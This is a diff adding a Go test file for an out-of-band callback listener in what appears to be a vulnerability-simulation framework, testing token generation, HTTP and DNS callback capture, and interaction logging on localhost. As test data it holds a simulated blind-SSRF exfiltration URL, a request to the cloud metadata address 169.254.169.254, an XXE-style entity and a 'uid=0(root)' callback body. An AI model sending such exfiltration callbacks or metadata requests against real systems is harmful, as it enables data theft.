@@ -0,0 +1,195 @@
+package sinks
+
+import (
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+)
+
+// TestOOB_Tokens tests token generation and callback names
+func TestOOB_Tokens(t *testing.T) {
+	o := NewOOB("")
+
+	token := o.NewToken("xxe")
+	if len(token.Token) != 16 || strings.ToLower(token.Token) != token.Token {
+		t.Errorf("Expected 16 lowercase hex characters, got '%s'", token.Token)
+	}
+	if other := o.NewToken(""); other.Token == token.Token {
+		t.Error("Expected unique tokens")
+	}
+	if got := o.URL(token.Token); got != "http://"+token.Token+".oob.flawfactory.local/" {
+		t.Errorf("Unexpected URL %s", got)
+	}
+	if len(o.Tokens()) != 2 {
+		t.Errorf("Expected 2 tokens, got %d", len(o.Tokens()))
+	}
+}
+
+// TestOOB_SetRandom tests tokens are drawn from the configured source
+func TestOOB_SetRandom(t *testing.T) {
+	o := NewOOB("")
+	o.SetRandom(strings.NewReader("\x01\x02\x03\x04\x05\x06\x07\x08"))
+
+	if token := o.NewToken(""); token.Token != "0102030405060708" {
+		t.Errorf("Expected a token from the source, got '%s'", token.Token)
+	}
+}
+
+// TestOOB_IsOOBHost tests which hosts reach the listener
+func TestOOB_IsOOBHost(t *testing.T) {
+	o := NewOOB("oob.test")
+
+	tests := []struct {
+		host string
+		want bool
+	}{
+		{"oob.test", true},
+		{"abc.oob.test", true},
+		{"data.abc.OOB.test:8080", true},
+		{"evil-oob.test", false},
+		{"example.com", false},
+	}
+	for _, tt := range tests {
+		if got := o.IsOOBHost(tt.host); got != tt.want {
+			t.Errorf("IsOOBHost(%q) = %v, want %v", tt.host, got, tt.want)
+		}
+	}
+}
+
+// TestOOB_HTTPSinkDelivery tests in-process delivery of HTTP sink requests
+func TestOOB_HTTPSinkDelivery(t *testing.T) {
+	o := NewOOB("oob.test")
+	token := o.NewToken("blind ssrf")
+	o.SetResponse(token.Token, "application/xml-dtd", `<!ENTITY % x "y">`)
+
+	h := NewHTTP()
+	h.SetMetadataService(NewMetadataService(MetadataConfig{}))
+	h.SetOOB(o)
+
+	resp, err := h.Fetch("http://root." + token.Token + ".oob.test/exfil?data=secret")
+	if err != nil {
+		t.Fatalf("Fetch failed: %v", err)
+	}
+	if resp.Body != `<!ENTITY % x "y">` {
+		t.Errorf("Expected token response, got '%s'", resp.Body)
+	}
+
+	// The metadata service still answers behind the OOB transport
+	if resp, err := h.Fetch("http://169.254.169.254/latest/meta-data/"); err != nil || resp.StatusCode != 200 {
+		t.Errorf("Expected metadata service to still answer, got %v (%v)", resp, err)
+	}
+
+	interactions := o.Interactions(token.Token)
+	if len(interactions) != 1 {
+		t.Fatalf("Expected 1 interaction, got %d", len(interactions))
+	}
+	got := interactions[0]
+	if got.Protocol != "http" || !got.Internal || got.Label != "blind ssrf" || got.Query != "data=secret" || got.Path != "/exfil" {
+		t.Errorf("Unexpected interaction: %+v", got)
+	}
+}
+
+// TestOOB_Lookup tests in-process DNS lookups
+func TestOOB_Lookup(t *testing.T) {
+	o := NewOOB("oob.test")
+	token := o.NewToken("")
+
+	if !o.Lookup("www-data." + token.Token + ".oob.test") {
+		t.Error("Expected lookup under the callback domain to be recorded")
+	}
+	if o.Lookup("example.com") {
+		t.Error("Expected lookup outside the callback domain to be ignored")
+	}
+
+	interactions := o.Interactions("")
+	if len(interactions) != 1 || interactions[0].Token != token.Token || interactions[0].Protocol != "dns" {
+		t.Errorf("Unexpected interactions: %+v", interactions)
+	}
+
+	o.Clear()
+	if len(o.Interactions("")) != 0 {
+		t.Error("Expected no interactions after Clear")
+	}
+}
+
+// TestOOB_ListenHTTP tests callbacks over the network, with the token in the path
+func TestOOB_ListenHTTP(t *testing.T) {
+	o := NewOOB("oob.test")
+	if err := o.ListenHTTP("127.0.0.1:0"); err != nil {
+		t.Fatalf("ListenHTTP failed: %v", err)
+	}
+	defer o.Close()
+
+	token := o.NewToken("")
+	resp, err := http.Post(fmt.Sprintf("http://%s/%s/cb", o.HTTPAddr(), token.Token), "text/plain", strings.NewReader("uid=0(root)"))
+	if err != nil {
+		t.Fatalf("Request failed: %v", err)
+	}
+	body, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+
+	if string(body) != token.Token {
+		t.Errorf("Expected token echoed back, got '%s'", body)
+	}
+
+	interactions := o.Interactions(token.Token)
+	if len(interactions) != 1 || interactions[0].Body != "uid=0(root)" || interactions[0].Internal {
+		t.Errorf("Unexpected interactions: %+v", interactions)
+	}
+}
+
+// TestOOB_ListenDNS tests A lookups over UDP
+func TestOOB_ListenDNS(t *testing.T) {
+	o := NewOOB("oob.test")
+	if err := o.ListenDNS("127.0.0.1:0"); err != nil {
+		t.Fatalf("ListenDNS failed: %v", err)
+	}
+	defer o.Close()
+
+	lookup := func(name string) []byte {
+		t.Helper()
+		conn, err := net.Dial("udp", o.DNSAddr())
+		if err != nil {
+			t.Fatalf("Dial failed: %v", err)
+		}
+		defer conn.Close()
+
+		query := []byte{0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0}
+		for _, label := range strings.Split(name, ".") {
+			query = append(query, byte(len(label)))
+			query = append(query, label...)
+		}
+		query = append(query, 0, 0, 1, 0, 1)
+		conn.Write(query)
+
+		conn.SetReadDeadline(time.Now().Add(2 * time.Second))
+		reply := make([]byte, 512)
+		n, err := conn.Read(reply)
+		if err != nil {
+			t.Fatalf("Read failed: %v", err)
+		}
+		return reply[:n]
+	}
+
+	reply := lookup("data.abc123.oob.test")
+	if reply[0] != 0x12 || reply[1] != 0x34 || reply[3]&0x0f != 0 {
+		t.Errorf("Expected NOERROR reply with the query ID, got % x", reply[:4])
+	}
+	if binary.BigEndian.Uint16(reply[6:]) != 1 || !strings.HasSuffix(string(reply), "\x7f\x00\x00\x01") {
+		t.Errorf("Expected a single A record for 127.0.0.1, got % x", reply)
+	}
+
+	if reply := lookup("example.com"); reply[3]&0x0f != 5 {
+		t.Errorf("Expected REFUSED for other names, got rcode %d", reply[3]&0x0f)
+	}
+
+	interactions := o.Interactions("abc123")
+	if len(interactions) != 1 || interactions[0].Name != "data.abc123.oob.test" || interactions[0].QueryType != "A" {
+		t.Errorf("Unexpected interactions: %+v", interactions)
+	}
+}